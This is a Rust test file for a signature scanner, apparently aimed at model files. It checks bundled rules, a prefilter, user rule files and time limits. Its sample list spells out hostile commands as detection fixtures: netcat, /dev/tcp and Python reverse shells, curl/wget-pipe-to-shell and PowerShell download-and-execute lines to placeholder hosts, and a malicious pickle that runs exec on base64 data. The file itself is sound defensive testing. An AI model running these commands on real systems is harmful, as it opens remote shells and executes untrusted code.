//! The bundled rules on their samples and near misses, the prefilter against the fixture
//! corpus, user rule files and the limits.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use super::prefilter::case_variants;
use super::*;
use crate::source::Bytes;

/// Every match in `data`, with no time limit.
fn all(s: &Signatures, data: &[u8], max_bytes: u64) -> Vec<SignatureMatch> {
    let mut out = Vec::new();
    s.scan(&Bytes(data), max_bytes, None, &mut out).unwrap();
    out
}

fn eicar() -> Vec<u8> {
    // Assembled at run time so this source file is not itself the test file.
    let mut v = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$".to_vec();
    v.extend_from_slice(b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
    v
}

#[test]
fn bundled_rules_compile() {
    let s = Signatures::bundled();
    assert!(s.inner.is_ok(), "{:?}", s.inner.as_ref().err());
    // The bundled engine is compiled lazily: force it here.
    let engine = s.inner.as_ref().unwrap().engine();
    assert!(engine.is_ok(), "{:?}", engine.err());
    assert!(s.rule_names().len() >= 8);
    assert!(s.rule_names().len() >= 8);
    assert!(s.digest().starts_with("sha256:"));
}

#[test]
fn eicar_anywhere() {
    let mut data = b"prefix bytes ".to_vec();
    data.extend(eicar());
    let m = all(&Signatures::bundled(), &data, 1 << 20);
    assert_eq!(m.len(), 1);
    assert_eq!(m[0].rule, "MG_EICAR_Test_Signature");
    assert_eq!(m[0].offset, Some(13));
    assert_eq!(m[0].severity.as_deref(), Some("high"));
    assert_eq!(m[0].message.as_deref(), Some("EICAR test signature"));
}

/// `max_signature_bytes`: a large source is scanned in its head and tail only.
#[test]
fn large_source_head_and_tail() {
    let e = eicar();
    let mut data = vec![0u8; 4096];
    data[100..100 + e.len()].copy_from_slice(&e);
    data[2000..2000 + e.len()].copy_from_slice(&e); // in the middle: not read
    data[4000..4000 + e.len()].copy_from_slice(&e);
    let s = Signatures::bundled();
    let m = all(&s, &data, 1024);
    let offs: Vec<_> = m.iter().map(|m| m.offset).collect();
    assert_eq!(offs, vec![Some(100), Some(4000)]);
    assert_eq!(all(&s, &data, 0), vec![]);
    assert_eq!(all(&s, &data, 1 << 20).len(), 1, "one rule, first match");
}

/// One sample per bundled rule and alternative, with the rule it must fire.
const SAMPLES: &[(&str, &str)] = &[
    (
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "MG_Reverse_Shell_Dev_Tcp",
    ),
    ("nc -e /bin/sh 10.0.0.1 4444", "MG_Reverse_Shell_Netcat"),
    ("ncat 10.0.0.1 4444 -e /bin/bash", "MG_Reverse_Shell_Netcat"),
    (
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
        "MG_Reverse_Shell_Netcat",
    ),
    (
        "python -c 'import socket,subprocess,os;s=socket.socket()'",
        "MG_Reverse_Shell_Python",
    ),
    (
        "s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
        "MG_Reverse_Shell_Python",
    ),
    (
        "curl -fsSL http://x.invalid/i.sh | sh",
        "MG_Download_And_Execute",
    ),
    (
        "wget -qO- http://x.invalid/i.sh | bash",
        "MG_Download_And_Execute",
    ),
    (
        "wget http://x.invalid/i.sh -O - | sudo bash",
        "MG_Download_And_Execute",
    ),
    (
        "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A",
        "MG_Download_And_Execute",
    ),
    (
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        "MG_Download_And_Execute",
    ),
    ("__import__('os').system('id')", "MG_Python_Import_Exec"),
    ("exec(base64.b64decode('aWQ='))", "MG_Python_Decode_Exec"),
    (
        "exec(__import__('zlib').decompress(b'x'))",
        "MG_Python_Decode_Exec",
    ),
];

/// Benign text near each rule's triggers.
const NEAR_MISSES: &[&str] = &[
    "#!/bin/sh\necho hello\n",
    "curl -O https://example.com/model.bin",
    "see /dev/tcp in the bash manual",
    "import os\nos.path.join('a', 'b')\n",
    "base64.b64decode(weights)",
    "wget https://example.com/x.tar.gz && tar xf x.tar.gz",
    "nc -l 8080",
    "socket.socket() is created by the server",
    "model.eval()",
];

/// The literal prefilter is only a shortcut: whatever the rules match, it lets through.
/// Checked on every rule's samples (also upper-cased and embedded in other bytes), on
/// the near misses and on every file of the fixture corpus.
#[test]
fn prefilter_never_hides_a_match() {
    let s = Signatures::bundled();
    let c = s.inner.as_ref().unwrap();
    let p = c.prefilter.as_ref().expect("bundled set has a prefilter");
    let mut inputs: Vec<Vec<u8>> = vec![eicar()];
    for &(t, _) in SAMPLES {
        inputs.push(t.as_bytes().to_vec());
        inputs.push(t.to_ascii_uppercase().into_bytes());
        inputs.push([b"\x80\x04junk ".as_slice(), t.as_bytes(), b" tail"].concat());
    }
    inputs.extend(NEAR_MISSES.iter().map(|t| t.as_bytes().to_vec()));
    inputs.push(b"cbuiltins\nexec\n(cbase64\nb64decode\n(S'aWQ='\ntRtR.".to_vec());
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures");
    let mut dirs = vec![root];
    while let Some(d) = dirs.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let path = e.path();
            if path.is_dir() {
                dirs.push(path);
            } else if let Ok(data) = std::fs::read(&path) {
                inputs.push(data);
            }
        }
    }
    assert!(inputs.len() > 200, "fixture corpus not found");
    let mut matched = 0;
    for data in &inputs {
        let mut full = Vec::new();
        scan_buffer(c, data, 0, None, &mut full).unwrap();
        if !full.is_empty() {
            matched += 1;
            assert!(
                p.is_match(data.as_slice()),
                "prefilter would hide {:?} in {:?}",
                full.iter().map(|m| &m.rule).collect::<Vec<_>>(),
                String::from_utf8_lossy(data.get(..200).unwrap_or(data))
            );
        }
    }
    assert!(
        matched >= SAMPLES.len(),
        "only {matched} inputs matched a rule"
    );
    // ... and it does skip ordinary data.
    assert!(!p.is_match(b"\x80\x02}q\x00X\x06\x00\x00\x00weightq\x01K\x01s."));
    assert_eq!(case_variants("iEx").len(), 8);
    assert!(case_variants("a-1").contains(&b"A-1".to_vec()));
}

#[test]
fn shells_and_payloads() {
    let s = Signatures::bundled();
    let hits = |t: &str| -> Vec<String> {
        all(&s, t.as_bytes(), 1 << 20)
            .into_iter()
            .map(|m| m.rule)
            .collect()
    };
    for &(text, rule) in SAMPLES {
        assert_eq!(hits(text), vec![rule.to_string()], "{text}");
    }
    for &benign in NEAR_MISSES {
        assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
    }
}

#[test]
fn dirty_pickle() {
    let s = Signatures::bundled();
    // protocol 0: builtins.exec(base64.b64decode(...))
    let p0 = b"cbuiltins\nexec\n(cbase64\nb64decode\n(S'aWQ='\ntRtR.";
    let m = all(&s, p0, 1 << 20);
    assert!(m.iter().any(|m| m.rule == "MG_Pickle_Dirty_Exec"), "{m:?}");
    // protocol 4 STACK_GLOBAL
    let mut p4 = vec![0x80, 4, 0x95, 0, 0, 0, 0, 0, 0, 0, 0];
    p4.extend_from_slice(
        b"\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x8c\x06base64\x8c\x09b64decode\x93.",
    );
    let m = all(&s, &p4, 1 << 20);
    assert!(m.iter().any(|m| m.rule == "MG_Pickle_Dirty_Exec"), "{m:?}");
    // exec alone is the VM's business, not this rule's
    let plain = b"\x80\x04\x8c\x08builtins\x8c\x04eval\x93.";
    assert!(all(&s, plain, 1 << 20).is_empty());
}

#[test]
fn user_rules_and_errors() {
    let dir = std::env::temp_dir().join(format!("mg-sig-unit-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("a.yar"),
        "rule Custom { meta: severity = \"medium\" strings: $x = \"custom-marker\" condition: $x }",
    )
    .unwrap();
    let s = Signatures::with_rule_dirs(std::slice::from_ref(&dir)).unwrap();
    let m = all(&s, b"..custom-marker..", 1 << 20);
    assert_eq!(m[0].rule, "Custom");
    assert_eq!(m[0].severity.as_deref(), Some("medium"));
    assert_ne!(s.digest(), Signatures::bundled().digest());
    std::fs::write(dir.join("b.yara"), "rule Broken {\n condition: $nope\n}").unwrap();
    let e = Signatures::with_rule_dirs(std::slice::from_ref(&dir)).unwrap_err();
    let text = e.to_string();
    assert!(text.contains("b.yara:2:"), "{text}");
    let empty = dir.join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    assert!(matches!(
        Signatures::with_rule_dirs(&[empty]),
        Err(SignatureError::Empty(_))
    ));
    std::fs::remove_dir_all(&dir).unwrap();
}

/// `max_signature_millis`: a user rule that is quadratic in the file size is stopped, the
/// error says which limit stopped it, and a match found before it is kept.
#[test]
fn time_limit_stops_a_slow_rule() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("slow.yar"),
        "rule Early { strings: $m = \"early-marker\" condition: $m }\n\
         rule Slow { condition:\n\
           for all i in (1..filesize) : ( for all j in (1..filesize) : ( uint8(i) >= uint8(j) or true ) ) }",
    )
    .unwrap();
    let s = Signatures::with_rule_dirs(&[dir.path().to_path_buf()]).unwrap();
    // 16 million evaluations of the inner condition (about 4 s in a debug build).
    let mut data = b"early-marker ".to_vec();
    data.extend(std::iter::repeat_n(b'A', 4_000));
    let mut out = Vec::new();
    let limit = Some(Duration::from_millis(1));
    let err = s.scan(&Bytes(&data), 1 << 20, limit, &mut out).unwrap_err();
    assert!(err.contains("max_signature_millis (1 ms)"), "{err}");
    let rules: Vec<_> = out.iter().map(|m| m.rule.as_str()).collect();
    assert_eq!(rules, ["Early"]);
    // The same rules on a short buffer finish within a limit.
    let mut out = Vec::new();
    let few = b"early-marker AAA";
    s.scan(
        &Bytes(few),
        1 << 20,
        Some(Duration::from_secs(60)),
        &mut out,
    )
    .unwrap();
    let rules: Vec<_> = out.iter().map(|m| m.rule.as_str()).collect();
    assert_eq!(rules, ["Early", "Slow"]);
}
